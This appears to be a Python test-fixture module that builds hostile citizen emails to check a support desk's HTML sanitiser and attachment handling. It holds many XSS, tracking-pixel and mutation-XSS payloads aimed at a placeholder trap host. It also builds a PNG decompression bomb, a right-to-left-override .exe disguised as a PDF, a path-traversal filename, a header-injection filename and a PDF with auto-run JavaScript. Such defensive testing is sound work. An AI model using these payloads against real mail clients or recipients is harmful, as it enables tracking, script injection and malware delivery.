"""Letters that attack whoever looks at them; {trap} stands for an address that nothing may ask."""

import base64
import io
import struct
import zlib
from email.message import EmailMessage

from made_files import pdf
from PIL import Image

TEXT = "Здравствуйте! Не приходит код подтверждения на телефон, помогите войти в личный кабинет."

HTML: dict[str, str] = {
    "script": "<script>document.title='owned';fetch('{trap}/script')</script><p>текст</p>",
    "script from elsewhere": "<script src='{trap}/x.js'></script><p>текст</p>",
    "event handlers": "<p onclick=\"location='{trap}'\">текст</p><img src=x onerror=\"new Image().src='{trap}/onerror'\">"
    "<body onload=\"fetch('{trap}/onload')\"><details open ontoggle=\"fetch('{trap}/toggle')\">x</details>",
    "remote picture": "<img src='{trap}/seen.gif' width=1 height=1><p>текст</p>",
    "remote picture without a scheme": "<img src='//{host}/seen.gif'><p>текст</p>",
    "remote picture by srcset": "<img srcset='{trap}/1.gif 1x, {trap}/2.gif 2x'><picture><source srcset='{trap}/3.gif'>"
    "<img src='{trap}/4.gif'></picture><p>текст</p>",
    "style sheet": "<link rel=stylesheet href='{trap}/a.css'><style>@import url('{trap}/b.css');"
    "body{{background:url({trap}/c.png)}}</style><p>текст</p>",
    "style attribute": "<div style=\"background:url('{trap}/d.png');list-style:url({trap}/e.png)\">текст</div>"
    "<p style='position:fixed;inset:0'>поверх</p>",
    "background attribute": "<table background='{trap}/f.png'><tr><td background='{trap}/g.png'>текст</table>",
    "font face": "<style>@font-face{{font-family:q;src:url({trap}/q.woff)}}p{{font-family:q}}</style><p>текст</p>",
    "frames": "<iframe src='{trap}/frame'></iframe><iframe srcdoc='<script>parent.document</script>'></iframe>"
    "<frameset><frame src='{trap}/f2'></frameset><object data='{trap}/o'></object><embed src='{trap}/e'><p>текст</p>",
    "refresh": "<meta http-equiv=refresh content='0;url={trap}/refresh'><p>текст</p>",
    "base": "<base href='{trap}/'><img src='rel.gif'><a href='rel'>ссылка</a><p>текст</p>",
    "form": "<form action='{trap}/form' method=post><input name=q value=1><button>Отправить</button></form>"
    "<input type=image src='{trap}/input.gif' formaction='{trap}/fa'><p>текст</p>",
    "sound and film": "<video src='{trap}/v' autoplay poster='{trap}/p'></video><audio src='{trap}/a' autoplay></audio>"
    "<track src='{trap}/t'><p>текст</p>",
    "prefetch": "<link rel=prefetch href='{trap}/p1'><link rel=dns-prefetch href='{trap}'><link rel=preconnect "
    "href='{trap}'><link rel=preload as=image href='{trap}/p2'><p>текст</p>",
    "svg": "<svg><image href='{trap}/svg.png'/><use href='{trap}/u#x'/><script>fetch('{trap}/svgjs')</script>"
    "<foreignObject><img src='{trap}/fo.gif'></foreignObject></svg><p>текст</p>",
    "math and style mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src={trap}/m "
    "onerror=alert(1)&gt;'>",
    "noscript mutation": "<noscript><p title=\"</noscript><img src='{trap}/ns' onerror=alert(1)>\"></noscript>",
    "comment mutation": "<!--><img src='{trap}/c1'>--><!--[if mso]><img src='{trap}/c2'><![endif]--><p>текст</p>",
    "template": "<template><img src='{trap}/t'></template><xmp><img src='{trap}/x'></xmp><plaintext><img src='{trap}/pt'>",
    "links that run": "<a href='javascript:fetch(\"{trap}/js\")'>раз</a><a href='jav&#x09;ascript:alert(1)'>два</a>"
    "<a href='data:text/html,<script>alert(1)</script>'>три</a><a href='vbscript:x'>четыре</a>",
    "link to the top": "<a href='{trap}/top' target=_top ping='{trap}/ping'>войти в банк</a>",
    "content id from elsewhere": "<img src='cid:{trap}/x.gif'><img src='cid:нет'><img src='CID:../../me'><p>текст</p>",
    "data picture": "<img src='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg><image href=\"{trap}/d\"/></svg>'>"
    "<p>текст</p>",
    "null bytes": "<scr\0ipt>fetch('{trap}/nul')</scr\0ipt><im\0g src='{trap}/nul.gif'><p>текст</p>",
    "fits the frame's own end": "</body></html><img src='{trap}/after'><iframe src='{trap}/f'></iframe><p>текст</p>",
}
REFUSED: dict[str, tuple[str, str]] = {
    "deep": ("<div>" * 15_000 + "текст", "слишком глубоко"),
    "deep behind stray ends": ("<div></span></b>" * 5_000 + "текст", "слишком глубоко"),
    "many tags": ("<br>" * 30_000 + "текст", "20 000 тегов"),
    "large": ("<p>" + "а" * 600_000, "512 КБ"),
}


def letter(
    html: str | None = None, *, subject: str = "Письмо", files: tuple[tuple[str, bytes, str], ...] = ()
) -> bytes:
    """A citizen's letter with that HTML and those files (name, bytes, declared type)."""
    made = EmailMessage()
    made["From"] = f"Иванова Мария <maria.{zlib.crc32(subject.encode()):x}@citizen.example>"  # each a person of her own
    made["To"] = "support@desk.example"
    made["Subject"] = subject
    made["Date"] = "Mon, 23 Nov 2026 10:00:00 +0300"
    made["Message-ID"] = f"<{zlib.crc32((subject + str(html)[:500]).encode()):x}@citizen.example>"
    made.set_content(f"{TEXT}\n{subject}")
    if html is not None:
        made.add_alternative(html, subtype="html")
    for name, data, declared in files:
        main, _, sub = declared.partition("/")
        made.add_attachment(data, maintype=main, subtype=sub, filename=name)
    return made.as_bytes()


def photo() -> bytes:
    """A JPEG that tells where it was taken."""
    out, exif = io.BytesIO(), Image.Exif()
    exif[0x010E] = "дом 5, квартира 12"
    Image.new("RGB", (1600, 1200), (40, 90, 160)).save(out, "JPEG", exif=exif)
    return out.getvalue()


def bomb() -> bytes:
    """A PNG of 30,000 × 30,000 pixels in a few kilobytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))

    head = struct.pack("!IIBBBBB", 30_000, 30_000, 1, 0, 0, 0, 0)
    rows = zlib.compress(b"\0" * (30_000 * 3_751), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


FILES: tuple[tuple[str, bytes, str], ...] = (
    ("скан.pdf", pdf(), "application/pdf"),
    ("фото.jpg", photo(), "image/jpeg"),
    ("страница.html", b"<script>alert(1)</script>", "text/html"),
    ("рисунок.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "image/svg+xml"),
    ("договор.pdf", b"MZ" + b"\0" * 500, "application/pdf"),
    ("счёт\u202efdp.exe", b"MZ" + b"\0" * 500, "application/pdf"),
    ("../../etc/passwd", b"root:x:0:0", "text/plain"),
    ('a"; filename="b.exe', b"text", "text/plain"),
    ("действует.pdf", pdf(catalog=b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"), "application/pdf"),
    ("бомба.png", bomb(), "image/png"),
)


def with_picture_inside() -> bytes:
    """HTML that shows a picture of its own by Content-ID."""
    raw = letter("<p>Вот экран:</p><img src='cid:shot@x' alt='экран'>", subject="Картинка внутри", files=())
    picture = base64.encodebytes(photo()).decode()
    boundary = raw.split(b'boundary="', 1)[1].split(b'"', 1)[0].decode()
    part = (
        f"--{boundary}\r\nContent-Type: image/jpeg\r\nContent-ID: <shot@x>\r\nContent-Transfer-Encoding: base64\r\n"
        f"Content-Disposition: inline\r\n\r\n{picture}\r\n--{boundary}--"
    )
    return raw.replace(f"--{boundary}--".encode(), part.encode()).replace(
        b"multipart/alternative", b"multipart/related"
    )
